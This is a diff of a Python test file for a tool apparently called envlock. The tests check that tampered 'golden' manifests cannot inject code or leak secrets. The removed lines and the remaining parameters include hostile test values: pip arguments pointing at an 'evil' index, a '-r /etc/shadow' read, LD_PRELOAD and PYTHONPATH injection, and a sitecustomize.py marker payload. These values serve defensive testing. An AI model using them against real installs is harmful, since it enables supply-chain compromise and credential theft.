@@ -15,64 +15,38 @@ import subprocess
 import sys
 import textwrap
 import time
-import warnings
 from pathlib import Path
 from typing import Any
 
-import numpy as np
 import pytest
 
 from envlock.diff import diff_manifests
 from envlock.display import render_differences, render_manifest, render_report
 from envlock.environ import MAX_VALUE_LENGTH, capture_environment, environment_problem, golden_environment_changes
 from envlock.errors import BAD_INPUT, BadFileError, BadInputError
-from envlock.golden import Golden, OutputRecord, ProbeRecord, load_golden, save_golden, seal
+from envlock.golden import load_golden
 from envlock.image import wheelhouse
 from envlock.image.spec import check_golden_for_image, spec_from_golden
-from envlock.models import Distribution, LockdownSettings, Manifest, with_digest
-from envlock.probes.compare import Tolerance, summarize_array
+from envlock.models import Distribution, LockdownSettings
+from envlock.probes.compare import Tolerance
 from envlock.redact import needs_redaction, redact_value
 from envlock.verdict import ProbeVerdict, build_report
 from envlock.verify import child_environment
-from tests.helpers import BASE_IMAGE, env_with, envlock_cli, make_manifest
+from tests.helpers import (
+    BASE_IMAGE,
+    HOSTILE_DISTRIBUTIONS,
+    XLA_FLAGS_NEEDING_REDACTION,
+    assert_no_secret,
+    env_with,
+    evil_package,
+    make_hostile_golden,
+    make_manifest,
+    with_distribution,
+    with_python,
+    write_hostile_golden,
+)
 
-# ---------------------------------------------------------------- helpers
-
-
-def make_hostile_golden(*, manifest_env: dict[str, Any] | None = None, lockdown_env: dict[str, Any] | None = None,
-                        manifest: Manifest | None = None, skipped_reason: str | None = None) -> Golden:
-    """A golden edited after recording and resealed: model_copy skips validation, as a text editor does."""
-    output = OutputRecord.model_validate(summarize_array("product", np.arange(16, dtype=np.float32)))
-    probes = [ProbeRecord(name="matmul.f32", tags=["matmul"], group="canary", status="ok", outputs=[output])]
-    if skipped_reason is not None:
-        probes.append(ProbeRecord(name="gpu.matmul", tags=["gpu"], group="canary", status="skipped",
-                                  reason=skipped_reason))
-    golden = Golden(envlock_version="0.1.0", created_at="2026-01-01T00:00:00+00:00", manifest=make_manifest(),
-                    lockdown=LockdownSettings(seed=42, intra_op_threads=2, inter_op_threads=1), repeat=1,
-                    probes=probes)
-    manifest = manifest or golden.manifest
-    if manifest_env is not None:
-        manifest = manifest.model_copy(update={"environment": manifest_env})
-    lockdown = golden.lockdown
-    if lockdown_env is not None:
-        lockdown = lockdown.model_copy(update={"environment": lockdown_env})
-    # An attacker reseals both digests: the manifest's own and the golden's.
-    return seal(golden.model_copy(update={"manifest": with_digest(manifest), "lockdown": lockdown}))
-
-
-def write_hostile_golden(path: Path, **kwargs: Any) -> Path:
-    with warnings.catch_warnings():
-        warnings.simplefilter("ignore")  # pydantic warns when it serialises a non-str value as str
-        save_golden(path, make_hostile_golden(**kwargs))
-    return path
-
-
-def evil_package(tmp_path: Path) -> tuple[Path, Path]:
-    """A directory whose sitecustomize.py, if Python ever imports it, leaves a marker file."""
-    package, marker = tmp_path / "evil", tmp_path / "PWNED"
-    package.mkdir()
-    (package / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
-    return package, marker
+# ---------------------------------------------------------------- hostile names and values
 
 
 # Names that run code, change what is loaded or leak, and which must never be applied from a golden.
@@ -143,16 +117,7 @@ def test_use_sites_refuse_a_golden_built_without_validation(name: str) -> None:
     assert child_environment(golden, {"PATH": "/bin"}, golden_env=False) == {"PATH": "/bin"}
 
 
-def test_verify_golden_env_never_runs_a_golden_sitecustomize(tmp_path: Path) -> None:
-    package, marker = evil_package(tmp_path)
-    golden = write_hostile_golden(tmp_path / "golden.json", lockdown_env={"PYTHONPATH": str(package)})
-    proc = envlock_cli("verify", str(golden), "--golden-env", "--repeat", "1", timeout=300)
-    assert proc.returncode == BAD_INPUT, proc.stderr
-    assert len(proc.stderr.strip().splitlines()) == 1 and "PYTHONPATH" in proc.stderr
-    assert "Traceback" not in proc.stderr + proc.stdout
-    assert not marker.exists()
-
-
+@pytest.mark.processes("a fresh interpreter: its environment, imports and sitecustomize")
 def test_lockdown_with_a_hostile_golden_exports_nothing_and_imports_no_tensorflow(tmp_path: Path) -> None:
     package, marker = evil_package(tmp_path)
     golden = write_hostile_golden(tmp_path / "golden.json",
@@ -177,54 +142,15 @@ def test_lockdown_with_a_hostile_golden_exports_nothing_and_imports_no_tensorflo
     assert not marker.exists()
 
 
-def test_build_never_bakes_a_code_running_variable(tmp_path: Path) -> None:
-    package, _ = evil_package(tmp_path)
-    golden = write_hostile_golden(tmp_path / "golden.json", lockdown_env={"PYTHONPATH": str(package)},
-                                  manifest_env={"LD_PRELOAD": "/tmp/x.so"})
-    context, cache = tmp_path / "ctx", tmp_path / "cache"
-    proc = envlock_cli("build", "--golden", str(golden), "--context-only", str(context),
-                       env=env_with(ENVLOCK_CACHE_DIR=str(cache)), timeout=120)
-    assert proc.returncode == BAD_INPUT, proc.stderr
-    assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr
-    assert not context.exists() and not cache.exists()
-
-
 # ---------------------------------------------------------------- class 1: package fields that reach pip
 
 
-def _with_python(manifest: Manifest, **python: Any) -> Manifest:
-    return manifest.model_copy(update={"python": manifest.python.model_copy(update=python)})
-
-
-HOSTILE_DISTRIBUTIONS = [
-    ("numpy\n--index-url http://evil/simple", "2.4.6"),
-    ("--extra-index-url=http://evil/simple", "1"),
-    ("-r /etc/shadow", "1"),
-    ("evil @ https://evil/evil.whl", "1"),
-    ("numpy", "2.4.6\n--index-url http://evil/simple"),
-    ("numpy", "2.4.6 --hash=sha256:00"),
-    ("numpy", "2.4.6; python_version>'0'"),
-    ("numpy", "*"),
-    ("numpy", ""),
-    ("", "1.0"),
-    ("a" * 300, "1.0"),
-    ("numpy", "1" * 300),
-]
-
-
 @pytest.mark.parametrize(("name", "version"), HOSTILE_DISTRIBUTIONS)
-def test_hostile_distribution_names_and_versions_never_reach_pip(name: str, version: str, tmp_path: Path) -> None:
-    manifest = make_manifest()
-    manifest = _with_python(manifest, distributions=[*manifest.python.distributions,
-                                                     Distribution.model_construct(name=name, version=version)])
+def test_hostile_distribution_names_and_versions_never_reach_pip(name: str, version: str) -> None:
+    # `envlock build` with such a golden: tests/integration/test_cli_refusals.py
+    manifest = with_distribution(make_manifest(), name, version)
     with pytest.raises(BadInputError, match="refusing to build"):
         wheelhouse.package_set(manifest, variant="cpu", compat=None, envlock_requirements=[])
-    golden = write_hostile_golden(tmp_path / "golden.json", manifest=manifest)
-    context, cache = tmp_path / "ctx", tmp_path / "cache"
-    proc = envlock_cli("build", "--golden", str(golden), "--context-only", str(context),
-                       env=env_with(ENVLOCK_CACHE_DIR=str(cache)), timeout=120)
-    assert proc.returncode == BAD_INPUT and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
-    assert not context.exists() and not (cache / "locks").exists()
 
 
 @pytest.mark.parametrize(("section", "field", "value"), [
@@ -243,7 +169,7 @@ def test_hostile_platform_fields_are_refused_before_pip(section: str, field: str
 
 
 def test_ordinary_package_fields_pass() -> None:
-    manifest = _with_python(make_manifest(), distributions=[
+    manifest = with_python(make_manifest(), distributions=[
         Distribution(name=n, version=v) for n, v in [("tensorflow_cpu", "2.21.0"), ("torch", "2.5.1+cpu"),
                                                      ("zope.interface", "7.0"), ("pkg", "1.0rc1.post2.dev3"),
                                                      ("x", "1!2.0")]])
@@ -306,18 +232,10 @@ def test_redaction_is_linear_on_hostile_input(value: str) -> None:
 
 SECRET_ENV = {"XLA_FLAGS": "--xla_dump_to=https://host/x?token=abc123", "TF_XLA_FLAGS": "--x=https://u:pw456@h/",
               "NCCL_DEBUG_FILE": "/home/alice/nccl.log"}
-SECRETS = ("abc123", "pw456", "alice")
-
-
-def _no_secret(text: str) -> None:
-    for secret in SECRETS:
-        assert secret not in text, text
-
-
 def test_capture_redacts_but_keeps_ordinary_values() -> None:
     captured = capture_environment({**SECRET_ENV, "OMP_NUM_THREADS": "2", "HOME": "/home/alice",
                                     "KMP_AFFINITY": "granularity=fine", "ONEDNN_VERBOSE": "a\nb"})
-    _no_secret(repr(captured))
+    assert_no_secret(repr(captured))
     assert captured["OMP_NUM_THREADS"] == "2" and captured["KMP_AFFINITY"] == "granularity=fine"
     assert captured["XLA_FLAGS"] == "--xla_dump_to=https://host/x?token=REDACTED"
     assert captured["NCCL_DEBUG_FILE"] == "~/nccl.log"
@@ -332,14 +250,14 @@ def test_differences_reports_and_renders_carry_no_secret() -> None:
     here = make_manifest(env={"XLA_FLAGS": "--xla_dump_to=/home/alice/other"})
     differences = diff_manifests(golden.manifest, here)
     assert {d.path for d in differences} >= {"environment.XLA_FLAGS", "environment.TF_XLA_FLAGS"}
-    _no_secret(repr([d.model_dump() for d in differences]))
-    _no_secret(render_differences(differences))
-    _no_secret(render_manifest(golden.manifest))
+    assert_no_secret(repr([d.model_dump() for d in differences]))
+    assert_no_secret(render_differences(differences))
+    assert_no_secret(render_manifest(golden.manifest))
     verdict = ProbeVerdict(name="gpu.matmul", status="skipped", reason=golden.probes[1].reason)
     report = build_report(Path("g.json"), golden, here.digest, [verdict], differences, tolerance=Tolerance(), repeat=1,
                      golden_env=False, stable_drifted=False, timings={})
-    _no_secret(report.model_dump_json())
-    _no_secret(render_report(report))
+    assert_no_secret(report.model_dump_json())
+    assert_no_secret(render_report(report))
 
 
 def test_daemon_fingerprint_check_carries_no_secret() -> None:
@@ -349,24 +267,17 @@ def test_daemon_fingerprint_check_carries_no_secret() -> None:
     result = fingerprint_check(golden.manifest, golden_digest=golden.digest, environ={},
                                capture=lambda _environ: make_manifest(env={}))
     assert result.outcome == "drift"
-    _no_secret(repr(result.to_dict()) + str(result.reason))
+    assert_no_secret(repr(result.to_dict()) + str(result.reason))
 
 
-@pytest.mark.parametrize("value", ["--xla_dump_to=https://host/x?token=abc123", "--xla_dump_to=/home/alice/d",
-                                   "--xla_dump_to=https://u:pw456@h/"])
+@pytest.mark.parametrize("value", XLA_FLAGS_NEEDING_REDACTION)
 def test_build_refuses_to_bake_a_value_that_needs_redaction(tmp_path: Path, value: str) -> None:
+    # `envlock build` with such a golden: tests/integration/test_cli_refusals.py
     golden = write_hostile_golden(tmp_path / "golden.json", lockdown_env={"XLA_FLAGS": value})
     loaded = load_golden(golden)  # loads: verify and lockdown may use it; only an image refuses it
     with pytest.raises(BadInputError, match="redact"):
         spec_from_golden(loaded.manifest, loaded.lockdown, variant="cpu", base=BASE_IMAGE, golden_digest=loaded.digest,
                          envlock_version="0.1.0", compat=None)
-    context, cache = tmp_path / "ctx", tmp_path / "cache"
-    proc = envlock_cli("build", "--golden", str(golden), "--context-only", str(context),
-                       env=env_with(ENVLOCK_CACHE_DIR=str(cache)), timeout=120)
-    assert proc.returncode == BAD_INPUT and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
-    assert "XLA_FLAGS" in proc.stderr and "redact" in proc.stderr
-    _no_secret(proc.stderr + proc.stdout)
-    assert not context.exists()
 
 
 def test_lockdown_problem_messages_carry_no_secret() -> None:
